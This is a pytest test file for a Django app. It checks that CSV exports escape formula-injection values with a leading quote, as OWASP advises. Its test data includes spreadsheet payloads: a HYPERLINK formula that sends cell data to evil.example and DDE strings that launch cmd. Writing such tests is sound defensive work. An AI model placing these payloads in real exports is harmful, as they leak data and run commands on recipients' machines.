"""Issue 13, item 4: CSV formula injection. A text cell beginning with = + - @ tab or CR
gets a single quote before it (OWASP) in /export.csv and /qa/reviews.csv."""

import csv
import io
from datetime import UTC, datetime

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.utils import timezone

from audit.export import csv_cell
from conversations.models import Conversation
from scoring.models import Review
from scoring.qa import Answer, review_draft_save, scorecard_default_ensure

pytestmark = pytest.mark.django_db

AT = datetime(2026, 11, 2, 10, 0, tzinfo=UTC)
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


def rows_of(response) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))


@pytest.fixture
def manager() -> Client:
    client = Client()
    client.force_login(User.objects.create_superuser("boss"))
    return client


def test_csv_cells_are_neutralised_as_owasp_says():
    for formula in FORMULAS:
        assert csv_cell(formula) == "'" + formula
    # Numbers and phone numbers are data, not formulas; other text is left alone.
    for value in ("+14155550199", "-3.5", "+•••••••0199", "hello", "a=b", 5, None):
        assert csv_cell(value) == value


def test_export_csv_neutralises_formulas_in_every_text_cell(manager):
    for i, formula in enumerate(FORMULAS):
        Conversation.objects.create(channel="web", customer_address=formula,
                                    business_address="site", started_at=AT,
                                    last_activity_at=AT.replace(minute=i))
    customers = {r["customer"] for r in rows_of(manager.get("/export.csv"))}
    assert customers == {"'" + f for f in FORMULAS}


def test_qa_reviews_csv_neutralises_formulas(manager):
    conversation = Conversation.objects.create(
        channel="web", customer_address="visitor-1", business_address="site",
        started_at=AT, last_activity_at=AT)
    version = scorecard_default_ensure()
    review = review_draft_save(
        reviewer=User.objects.get(username="boss"), conversation=conversation,
        version=version, answers={"greeting": Answer(value=True, comment=FORMULAS[0]),
                                  "empathy": Answer(value=3, comment=FORMULAS[3])})
    Review.objects.filter(pk=review.pk).update(status=Review.Status.SUBMITTED,
                                               submitted_at=timezone.now())
    comments = {r["category"]: r["comment"] for r in rows_of(manager.get("/qa/reviews.csv"))}
    assert comments["greeting"] == "'" + FORMULAS[0]
    assert comments["empathy"] == "'" + FORMULAS[3]
